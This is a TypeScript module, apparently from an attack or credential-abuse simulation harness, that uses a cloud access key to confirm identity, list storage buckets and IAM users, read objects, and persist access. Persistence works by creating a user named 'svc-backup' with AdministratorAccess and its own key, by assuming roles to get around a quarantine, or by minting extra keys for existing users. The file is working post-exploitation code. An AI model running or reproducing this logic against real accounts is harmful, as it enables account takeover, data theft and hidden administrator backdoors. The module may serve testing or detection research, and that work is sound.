/**
 * With an access key of the cloud, signed as every client signs.
 * https://docs.aws.amazon.com/IAM/latest/APIReference/Welcome.html
 */
import { accessKeyIdOf } from "../services/cloud/authenticate.ts";
import { cloudOrigin, type CloudServiceName } from "../services/cloud/host.ts";
import { REGION } from "../services/cloud/model.ts";
import { sign } from "../services/cloud/signature.ts";
import type { Attempt, Use } from "./use.ts";

/** So many buckets, and objects of each, are read. */
const MOST = 10;
/** What they call the user that they leave behind. */
const LEFT = "svc-backup";
const ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess";

export const useCloud: Use = {
  async validate(attempt) {
    const body = await query(attempt, "sts", "2011-06-15", { Action: "GetCallerIdentity" });
    return body === null ? null : `it acts as ${texts(body, "Arn")[0]}`;
  },

  async enumerate(attempt) {
    const names = await buckets(attempt);
    const users = texts((await iam(attempt, { Action: "ListUsers" })) ?? "", "UserName");
    const seen = [
      ...(names.length > 0 ? [`buckets ${names.join(", ")}`] : []),
      ...(users.length > 0 ? [`users ${users.join(", ")}`] : []),
    ];
    return seen.length > 0 ? `it listed ${seen.join(" and ")}` : null;
  },

  async read(attempt) {
    const seen: string[] = [];
    for (const bucket of await buckets(attempt)) {
      const count = await readBucket(attempt, bucket);
      if (count > 0) seen.push(`${count} object${count === 1 ? "" : "s"} of ${bucket}`);
    }
    return seen.length > 0 ? `it read ${seen.join(", ")}` : null;
  },

  /** A user of their own; where that is denied, through a role that it may become, or another key of a user that there is. */
  async persist(attempt) {
    return (await leaveUser(attempt)) ?? (await throughRole(attempt)) ?? leaveKey(attempt);
  },
};

async function leaveUser(attempt: Attempt): Promise<string | null> {
  if ((await iam(attempt, { Action: "CreateUser", UserName: LEFT })) === null) return null;
  await iam(attempt, { Action: "AttachUserPolicy", UserName: LEFT, PolicyArn: ADMINISTRATOR });
  const key = await iam(attempt, { Action: "CreateAccessKey", UserName: LEFT });
  return `it created the user ${LEFT}${key === null ? "" : " with a key of its own"}`;
}

/** What denies something to a user (a quarantine does) does not deny it to a role that the user may become. */
async function throughRole(attempt: Attempt): Promise<string | null> {
  const roles = texts((await iam(attempt, { Action: "ListRoles" })) ?? "", "Arn");
  for (const role of roles.slice(0, MOST)) {
    const fields = { Action: "AssumeRole", RoleArn: role, RoleSessionName: LEFT };
    const answer = await query(attempt, "sts", "2011-06-15", fields);
    const session = attempt.ports.credentials.get(texts(answer ?? "", "AccessKeyId")[0] ?? "");
    const left = session ? await leaveUser({ ...attempt, credential: session }) : null;
    if (left !== null) return `it became the role ${role.split("/").at(-1)}, and ${left.slice(3)}`;
  }
  return null;
}

async function leaveKey(attempt: Attempt): Promise<string | null> {
  const users = texts((await iam(attempt, { Action: "ListUsers" })) ?? "", "UserName");
  for (const user of [null, ...users.slice(0, MOST)]) {
    const fields = { Action: "CreateAccessKey", ...(user === null ? null : { UserName: user }) };
    const key = await iam(attempt, fields);
    if (key !== null) return `it made another key of ${texts(key, "UserName")[0] ?? "its user"}`;
  }
  return null;
}

async function buckets(attempt: Attempt): Promise<string[]> {
  const body = await ask(attempt, "s3", { method: "GET", url: `${cloudOrigin("s3", REGION)}/` });
  return body === null ? [] : texts(body, "Name").slice(0, MOST);
}

/** How many objects could be fetched. */
async function readBucket(attempt: Attempt, bucket: string): Promise<number> {
  const url = `${cloudOrigin("s3", REGION)}/${bucket}`;
  const listed = await ask(attempt, "s3", { method: "GET", url: `${url}?list-type=2` });
  let count = 0;
  for (const key of texts(listed ?? "", "Key").slice(0, MOST)) {
    const path = key.split("/").map(encodeURIComponent).join("/");
    if ((await ask(attempt, "s3", { method: "GET", url: `${url}/${path}` })) !== null) count += 1;
  }
  return count;
}

function iam(attempt: Attempt, fields: Readonly<Record<string, string>>): Promise<string | null> {
  return query(attempt, "iam", "2010-05-08", fields);
}

/** https://docs.aws.amazon.com/IAM/latest/APIReference/CommonParameters.html */
function query(
  attempt: Attempt,
  service: CloudServiceName,
  version: string,
  fields: Readonly<Record<string, string>>,
): Promise<string | null> {
  const body = new URLSearchParams({ ...fields, Version: version }).toString();
  const headers = { "Content-Type": "application/x-www-form-urlencoded; charset=utf-8" };
  const url = `${cloudOrigin(service, REGION)}/`;
  return ask(attempt, service, { method: "POST", url, headers, body });
}

interface Asked {
  readonly method: string;
  readonly url: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** The body of an answer; null where it was refused. */
async function ask(attempt: Attempt, service: CloudServiceName, asked: Asked): Promise<string | null> {
  const { ports, credential, address } = attempt;
  const [secret = credential.value, token] = credential.parts;
  const key = {
    accessKeyId: accessKeyIdOf(credential),
    secretAccessKey: secret,
    ...(token === undefined ? {} : { sessionToken: token }),
  };
  // IAM is one service for all regions, and signs for the first.
  const region = service === "iam" ? "us-east-1" : REGION;
  const headers = sign(asked, key, { region, service }, ports.now());
  const { method, url, body } = asked;
  const request = new Request(url, { method, headers, ...(body === undefined ? {} : { body }) });
  const response = await ports.network.fetch(request, { address, session: null });
  const text = await response.text();
  return response.ok ? text : null;
}

/** Contents of all elements of a name. */
function texts(xml: string, name: string): string[] {
  return [...xml.matchAll(new RegExp(`<${name}>([^<]*)</${name}>`, "g"))].map(([, text = ""]) =>
    text
      .replaceAll("&lt;", "<")
      .replaceAll("&gt;", ">")
      .replaceAll("&quot;", '"')
      .replaceAll("&apos;", "'")
      .replaceAll("&amp;", "&"),
  );
}
